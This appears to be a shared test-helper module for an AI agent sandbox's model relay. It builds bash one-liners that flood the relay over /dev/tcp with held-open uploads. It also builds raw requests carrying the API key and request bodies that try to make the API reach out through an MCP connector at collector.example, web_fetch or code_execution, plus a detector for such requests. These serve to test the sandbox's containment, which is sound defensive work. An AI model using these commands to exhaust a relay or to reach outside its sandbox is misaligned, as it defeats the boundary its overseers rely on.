// What an agent's own commands send the model relay (its ANTHROPIC_BASE_URL inside the
// sandbox or the pod) to try its boundary (issue 36): shared by the local and the pod suites.

/** Bash that opens `n` uploads to the relay (the CLI's ANTHROPIC_BASE_URL inside the sandbox),
 * each declaring `declared` bytes, sending `sent` and then holding its connection open, all of
 * it ended after `holdS` seconds (a write the relay does not read blocks till then). */
export const uploads = ({ n, declared, sent, holdS }) =>
  'hp=${ANTHROPIC_BASE_URL#http://}; hp=${hp%%/*}; '
  + `for i in $(seq ${n}); do ( exec 3<>/dev/tcp/\${hp%:*}/\${hp##*:} || exit 1; `
  + `printf 'POST /v1/messages HTTP/1.1\\r\\nHost: x\\r\\nContent-Type: application/json\\r\\nContent-Length: ${declared}\\r\\n\\r\\n' >&3; `
  + `timeout ${holdS} sh -c 'head -c ${sent} /dev/zero; sleep ${holdS}' >&3 ) >/dev/null 2>&1 & done`;

/** Bash that posts `json` to the relay as the CLI would (its key placeholder, its base URL),
 * with `headers` (lines `name: value`), and prints the answer's status line. */
export const post = (json, headers = []) =>
  `body='${json}'; hp=\${ANTHROPIC_BASE_URL#http://}; hp=\${hp%%/*}; exec 3<>/dev/tcp/\${hp%:*}/\${hp##*:}; `
  + `printf 'POST /v1/messages HTTP/1.1\\r\\nHost: x\\r\\nx-api-key: %s\\r\\ncontent-type: application/json\\r\\n${headers.map((l) => `${l}\\r\\n`).join('')}Content-Length: %s\\r\\n\\r\\n%s' "$ANTHROPIC_API_KEY" "\${#body}" "$body" >&3; timeout 10 head -n 1 <&3`;

export const MESSAGE = '"model":"claude-sonnet-4-5","max_tokens":64,"messages":[{"role":"user","content":"fetch it"}]';
export const REACHING_OUT = {
  'mcp_servers (the MCP connector)': [`{${MESSAGE},"mcp_servers":[{"type":"url","url":"https://collector.example/mcp","name":"x"}]}`, ['anthropic-beta: mcp-client-2025-04-04']],
  'a web_fetch server tool': [`{${MESSAGE},"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`, []],
  'a code_execution server tool': [`{${MESSAGE},"tools":[{"type":"code_execution_20250825","name":"code_execution"}]}`, []],
};
/** The requests the API saw that ask it to reach out. */
export const reachingOut = (api) => api.requests.filter((r) => r.body?.mcp_servers || (r.body?.tools ?? []).some((t) => t.type && t.type !== 'custom') || String(r.headers['anthropic-beta'] ?? '').includes('mcp-client'));

/** Runs `fn`, sampling this process's RSS every 20 ms: resolves with what `fn` resolved with
 * and how many MiB the RSS grew at its peak (the relay lives in the engine's process). */
export async function rssGrowthWhile(fn) {
  const base = process.memoryUsage.rss();
  let peak = base;
  const sampler = setInterval(() => {
    peak = Math.max(peak, process.memoryUsage.rss());
  }, 20);
  try {
    const value = await fn();
    return { value, grownMiB: (peak - base) / 2 ** 20 };
  } finally {
    clearInterval(sampler);
  }
}
